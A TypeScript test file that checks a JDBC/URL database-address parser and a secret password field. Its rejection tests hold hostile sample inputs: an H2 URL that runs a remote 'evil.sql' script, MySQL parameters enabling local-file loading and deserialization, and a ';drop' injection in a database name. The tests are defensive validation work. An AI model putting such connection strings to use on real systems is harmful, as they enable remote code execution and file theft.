import { describe, expect, it } from 'vitest';
import { DATA_SOURCE_TEXT, parseDbAddress } from './db-address.ts';
import { dataSourceResource } from './sysadmin/data-source.ts';
import { addSchema, editSchema, filterableFields } from './resource.ts';

describe('parseDbAddress', () => {
  it('reads JDBC and URL forms, with default ports', () => {
    expect(parseDbAddress('jdbc:mysql://127.0.0.1:3306/jeecg-boot?characterEncoding=UTF-8&useUnicode=true&useSSL=false&serverTimezone=Asia/Shanghai'))
      .toEqual({ type: 'mysql', host: '127.0.0.1', port: 3306, database: 'jeecg-boot', tls: 'off' });
    expect(parseDbAddress('jdbc:postgresql://db.example.cn/erp?sslmode=verify-full')).toEqual({ type: 'postgresql', host: 'db.example.cn', port: 5432, database: 'erp', tls: 'verify' });
    expect(parseDbAddress('mariadb://[::1]:3307/erp?useSSL=true')).toEqual({ type: 'mysql', host: '::1', port: 3307, database: 'erp', tls: 'on' });
    expect(parseDbAddress('postgres://10.0.0.5:6432/report?sslmode=require')).toMatchObject({ type: 'postgresql', port: 6432, tls: 'on' });
  });

  it('refuses accounts in the address, unknown parameters, other drivers and odd names', () => {
    expect(parseDbAddress('jdbc:mysql://root:123456@127.0.0.1/x')).toEqual({ error: DATA_SOURCE_TEXT.credentialsInUrl });
    expect(parseDbAddress('jdbc:mysql://h/x?allowLoadLocalInfile=true')).toEqual({ error: DATA_SOURCE_TEXT.badParam('allowLoadLocalInfile') });
    expect(parseDbAddress('jdbc:mysql://h/x?autoDeserialize=true&queryInterceptors=x')).toEqual({ error: DATA_SOURCE_TEXT.badParam('autoDeserialize') });
    expect(parseDbAddress('jdbc:h2:mem:test;INIT=RUNSCRIPT FROM \'http://x/evil.sql\'')).toEqual({ error: DATA_SOURCE_TEXT.badUrl });
    expect(parseDbAddress('jdbc:sqlserver://h:1433;databaseName=x')).toEqual({ error: DATA_SOURCE_TEXT.badUrl });
    expect(parseDbAddress('jdbc:mysql://h:70000/x')).toEqual({ error: DATA_SOURCE_TEXT.badPort });
    expect(parseDbAddress('jdbc:mysql://h/x;drop')).toEqual({ error: DATA_SOURCE_TEXT.badDatabase });
    expect(parseDbAddress('jdbc:postgresql://h/x?sslmode=allow')).toEqual({ error: DATA_SOURCE_TEXT.badTls('allow') });
  });
});

describe('a secret field', () => {
  it('is required on add, may be left blank on edit, and is never a filter', () => {
    expect(addSchema(dataSourceResource).shape.dbPassword.safeParse('').success).toBe(false);
    expect(editSchema(dataSourceResource).shape.dbPassword.safeParse('').success).toBe(true);
    expect(filterableFields(dataSourceResource)).not.toContain('dbPassword');
  });
});
